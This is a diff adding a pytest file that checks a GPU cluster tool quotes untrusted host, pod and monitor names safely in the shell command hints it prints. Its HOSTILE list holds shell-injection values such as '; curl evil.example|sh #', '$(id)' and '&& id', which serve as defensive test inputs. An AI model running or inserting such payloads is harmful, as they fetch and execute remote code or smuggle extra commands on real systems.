@@ -1,0 +1,138 @@
+"""Whatever hosts, files and the API call things, a line to copy has it as one word at most."""
+
+import json
+import shlex
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+from typer.testing import CliRunner
+
+from gpustack.ask import recording
+from gpustack.ask.probe import CLUSTER
+from gpustack.cli.app import app
+from gpustack.doctor.graph import graph
+from gpustack.errors import RolloutError
+from gpustack.probes.gpu.cluster import Pod
+from gpustack.remedy.commands import fill_line
+from gpustack.rollout.gpus import removal
+from gpustack.rollout.removal import removal as find_removal
+from gpustack.rollout.reset import refuse_removal
+from tests.worlds import gpus, reset_hosts
+from tests.worlds.cases import answers_at, recorded, written
+
+BEGIN, END = "BEGINNING", "ENDING"
+HOSTILE = [
+    f"{BEGIN}{text}{END}"
+    for text in (
+        "; curl evil.example|sh #",
+        ";id",
+        " a b ",
+        "it's",
+        '"; id; "',
+        "$(id)",
+        "`id`",
+        "&& id",
+        "\\",
+        "é\u00a0",
+    )
+]
+PROGRAMS = (
+    "gpustack",
+    "kubectl",
+    "reboot",
+    "next:",
+    "systemctl",
+    "ssh",
+    "rm",
+    "mv",
+    "apt-get",
+    "sudoedit",
+    "journalctl",
+)
+
+
+def require_words(line: str) -> None:
+    """Fail where the text of somebody else is cut, or where the shell does not read the line."""
+    words = shlex.split(line, comments=True)
+    assert not [word for word in words if (BEGIN in word) != (END in word)], line
+    assert not any(character in line for character in "\x1b\n\r\u202e"), line
+
+
+def find_lines(output: str) -> Iterator[str]:
+    for line in output.splitlines():
+        if line.strip().startswith(PROGRAMS):
+            yield line.strip()
+
+
+def record(path: Path, host: str, answers: dict[tuple[str, str], Any]) -> Path:
+    """Write a recording in which k2 has another name, as a person may have edited it."""
+    recording.write(gpus.snapshot(answers), path)
+    path.write_text(path.read_text().replace('"k2"', json.dumps(host)))
+    return path
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("words", [["plan"], ["plan", "-o", "json"], ["doctor"]], ids=" ".join)
+def test_a_host_of_a_recording(tmp_path: Path, words: list[str], text: str) -> None:
+    foreign = written("leftovers.kubernetes", "https://192.0.2.9:6443\n")
+    nouveau = written("gpu.driver", "module -\nlibrary -\nnouveau-loaded\nnouveau-blacklisted\npersistence none\n")
+    path = record(tmp_path / "snapshot.jsonl", text, answers_at("k2", foreign, nouveau))
+    result = CliRunner().invoke(app, [*words, "--from", str(path), "-q"])
+    assert result.exit_code not in (3, 70), repr(result.exception)
+    if "json" in words:
+        checks = [check for state in json.loads(result.output)["states"] for check in state["checks"]]
+        lines = [check["hint"] for check in checks if check["hint"]]
+    else:
+        lines = list(find_lines(result.output))
+    for line in lines:
+        require_words(line)
+    if words[0] == "plan":
+        assert any(f"--limit {shlex.quote(text)} --foreign" in line or not text.isprintable() for line in lines)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_service_monitor_of_a_recording(tmp_path: Path, text: str) -> None:
+    """No API server accepts such a name: the answer is unknown, and nothing is said to be deleted."""
+    monitors = recorded("dcgm.monitors", "of-others")
+    body = json.loads(monitors.out)
+    for entry in body["items"]:
+        entry["metadata"]["name"] = text
+    answers = answers_at(CLUSTER, replace(monitors, out=json.dumps(body)))
+    path = record(tmp_path / "snapshot.jsonl", "k2", answers)
+    result = CliRunner().invoke(app, ["plan", "-o", "json", "--from", str(path), "-q"])
+    states = json.loads(result.output)["states"]
+    (found,) = (
+        check
+        for state in states
+        if state["step"] == "gpu-metrics"
+        for check in state["checks"]
+        if check["check"] == "monitor"
+    )
+    assert (found["outcome"], found["hint"]) == ("unknown", None)
+    assert "the API server accepts no such name" in found["reason"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_lines_of_the_catalogue_with_what_was_found(text: str) -> None:
+    names = dict.fromkeys(("NODE", "NAME", "NAMESPACE", "RELEASE", "KEY", "BRANCH", "UNIT", "MOUNT", "HOST"), text)
+    inventory = gpus.snapshot().inventory
+    # A function of the shell is none of one word each.
+    lines = [line for fault in graph().faults.values() for line in fault.fix.commands if "() {" not in line]
+    assert len(lines) > 100
+    for line in lines:
+        require_words(fill_line(line, inventory, names).body)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_pods_that_are_deleted_and_a_host_that_is_reset(text: str) -> None:
+    (line,) = removal([Pod(text, text, text)])
+    require_words(line)
+    snapshot = reset_hosts.snapshot({"k2": reset_hosts.WORKER | {"leftovers.kubernetes": "https://old:6443\n"}})
+    found = find_removal(snapshot, ["k2"])
+    assert found.foreign
+    with pytest.raises(RolloutError) as refused:
+        refuse_removal(replace(found, hosts=tuple(replace(one, host=text) for one in found.hosts)), foreign=False)
+    require_words(refused.value.hint)
